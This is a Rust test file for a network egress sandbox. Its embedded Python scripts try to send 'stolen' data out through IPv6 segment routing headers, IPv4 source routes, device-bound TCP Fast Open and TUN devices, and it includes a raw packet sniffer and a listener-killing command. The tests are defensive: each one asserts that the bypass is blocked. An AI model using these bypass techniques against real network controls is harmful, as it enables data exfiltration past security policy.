//! Packets go where their socket was vetted to go: no source route, no other device, no tunnel leads them elsewhere. Found
//! by a hostile review.

use tests::World;

/// Prints what leaves by a device and carries the stolen words.
const SNIFF: &str = r"
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
s.bind((sys.argv[1], 3))
s.settimeout(0.2)
print('ready', flush=True)
end = time.time() + float(sys.argv[2])
while time.time() < end:
    try: packet = s.recv(4000)
    except TimeoutError: continue
    if b'stolen' in packet: print('LEAK', packet[:60].hex(), flush=True)
    if b'control' in packet: print('control', flush=True)
";

/// A veth pair in the world's network, whose far end nobody answers at.
fn uplink(world: &World) {
    let script = "ip link add up0 type veth peer name up1 && ip link set up0 up && ip link set up1 up
mac=$(ip -o link show up1 | sed 's/.*ether \\([^ ]*\\).*/\\1/')
ip addr add 198.51.100.1/24 dev up0; ip addr add 2001:db8:f::1/64 dev up0 nodad
for to in 198.51.100.66 198.51.100.2 127.0.0.1 2001:db8:f::66; do ip neigh replace $to lladdr $mac dev up0; done";
    let told = world.enter(None).args(["sh", "-c", script]).output().unwrap();
    assert!(told.status.success(), "{told:?}");
}

/// What a script of a bot, run as this user, brings out of the uplink.
fn leaks(world: &World, ids: (u32, u32), script: &str) -> (String, String) {
    let mut sniffer = world.bot("/usr/bin/python3").outside().args(["-c", SNIFF, "up1", "4"]).spawn();
    assert_eq!(sniffer.line(), "ready");
    let told = world.bot("python3").user(ids.0, ids.1).args(["-c", script]).run();
    // That the sniffer sees what leaves.
    let control = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
                   s.sendto(b'control', ('198.51.100.66', 9))";
    let _ = world.bot("/usr/bin/python3").outside().args(["-c", control]).run();
    let seen = sniffer.rest();
    assert!(seen.contains("control"), "{seen}");
    (told.stdout + &told.stderr, seen)
}

#[test]
fn an_ipv6_routing_header_leads_nowhere_else() {
    let world = World::new();
    world.set("network.allow", "[\"udp [2001:db8::10]:5353\"]");
    uplink(&world);
    world.daemon();
    // Whoever is not root may set a segment routing header (RFC 8754).
    let script = r"
import socket
header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(10, '2001:db8:f::66')
udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
udp.sendto(b'plain', ('2001:db8::10', 5353))
udp.setsockopt(socket.IPPROTO_IPV6, 57, header)
try: print('udp', udp.sendto(b'stolen', ('2001:db8::10', 5353)))
except OSError as error: print('udp', error)
tcp = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
tcp.setsockopt(socket.IPPROTO_IPV6, 57, header)
tcp.setsockopt(socket.IPPROTO_TCP, 34, 1)
tcp.settimeout(1)
try: print('tcp', tcp.sendto(b'stolen', socket.MSG_FASTOPEN, ('2001:db8::10', 443)))
except OSError as error: print('tcp', error)
";
    let (told, seen) = leaks(&world, (4242, 4242), script);
    assert!(told.contains("udp [Errno 1]"), "{told}");
    assert!(!seen.contains("LEAK"), "{told}\n{seen}");
    assert!(world.counter("dropped_astray") >= 2, "{told}");
}

#[test]
fn an_ipv4_source_route_leads_nowhere_else() {
    let world = World::new();
    world.set("network.allow", "[\"udp 203.0.113.10:5353\"]");
    uplink(&world);
    world.daemon();
    let script = r"
import socket
route = bytes([131, 7, 4]) + socket.inet_aton('198.51.100.66') + b'\0'
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
try: print('udp', udp.sendto(b'stolen', ('203.0.113.10', 5353)))
except OSError as error: print('udp', error)
tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
tcp.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
tcp.setsockopt(socket.IPPROTO_TCP, 34, 1)
tcp.settimeout(1)
try: print('tcp', tcp.sendto(b'stolen', socket.MSG_FASTOPEN, ('203.0.113.10', 80)))
except OSError as error: print('tcp', error)
";
    let (told, seen) = leaks(&world, (0, 0), script);
    assert!(told.contains("udp [Errno 1]"), "{told}");
    assert!(!seen.contains("LEAK"), "{told}\n{seen}");
}

#[test]
fn a_socket_that_is_bound_to_a_device_does_not_take_its_turned_connection_there() {
    let world = World::new();
    uplink(&world);
    world.daemon();
    let script = r"
import socket
for family, address in ((socket.AF_INET, '203.0.113.10'), (socket.AF_INET6, '2001:db8::10')):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'up0')
    s.setsockopt(socket.IPPROTO_TCP, 34, 1)
    s.settimeout(1)
    try: print(s.sendto(b'stolen', socket.MSG_FASTOPEN, (address, 80)))
    except OSError as error: print(error)
";
    let (told, seen) = leaks(&world, (4242, 4242), script);
    assert!(!seen.contains("LEAK"), "{told}\n{seen}");
}

#[test]
fn a_tunnel_device_is_not_given() {
    let world = World::start();
    let lacks = !world.status()["kernel"]["lacks"].as_array().unwrap().is_empty();
    let script = r"
import fcntl, os, struct
try:
    fd = os.open('/dev/net/tun', os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH22x', b'rt0', 0x1001))
    print('given')
except OSError as error: print(error)
";
    let told = world.python(script, &[]);
    if lacks || told.stdout.contains("No such") {
        // No BPF LSM, which `status` tells; or no tunnels at all.
        return;
    }
    assert!(told.stdout.contains("not permitted"), "{told:?}");
    world.record("decision", |record| record["scheme"] == "tunnel" && record["identity"] == "python");
}

#[test]
fn a_listener_that_is_taken_down_is_not_replaced_by_somebody_elses() {
    let world = World::start();
    let port = world.status()["listeners"][0].as_str().unwrap().rsplit(':').next().unwrap().to_owned();
    assert_eq!(world.curl(&["https://api.test/v1/before"]).status, 200);
    // As root in the host's network can.
    let kill = format!("ss -K state listening 'sport = :{port}'");
    let told = world.enter(None).args(["sh", "-c", &kill]).output().unwrap();
    assert!(told.status.success(), "{told:?}");
    assert_eq!(world.ended(), Some(1), "{}", world.log());
    assert!(world.log().contains("the listener was taken down"), "{}", world.log());
    world.daemon();
    assert_eq!(world.curl(&["https://api.test/v1/after"]).status, 200);
}
